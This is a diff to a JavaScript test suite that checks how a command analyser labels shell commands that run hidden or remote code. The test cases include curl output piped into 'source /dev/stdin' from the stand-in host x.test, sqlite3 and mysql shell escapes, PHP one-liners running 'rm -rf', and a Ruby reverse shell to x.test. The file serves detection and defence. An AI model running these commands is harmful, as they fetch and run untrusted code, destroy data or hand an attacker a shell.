@@ -27,6 +27,11 @@ describe('code that runs what is not in sight', () => {
     [`php -r '$f = g($x ? fn() => 1 : fn() => 2); $f("rm -rf a");'`, 'execute ?'],
     [`php -r '$m[$k] = fn() => 1; $k("rm -rf a");'`, 'execute ?'],
     [`php -r '$f = $_GET["a"] ?? fn() => 1; $f("rm -rf a");'`, 'execute ?'],
+    [`source /dev/stdin <<< "$(curl -s https://x.test/a)"`, 'execute ?'],
+    ['. /dev/stdin < <(curl -s https://x.test/a)', 'execute host:https://x.test/a'],
+    ['curl -s https://x.test/a | source /dev/stdin', 'execute host:https://x.test/a'],
+    ["sqlite3 a.db '.shell ./x'", 'execute hidden-command:sqlite3'],
+    ["mysql -e 'system ./x'", 'execute hidden-command:mysql'],
     [`ruby -rsocket -e 'f=TCPSocket.open("x.test",1).to_i; exec sprintf("/bin/sh -i <&%d",f)'`, 'execute host'],
   ])('%s', async (command, expected) => {
     const lines = await told(command);
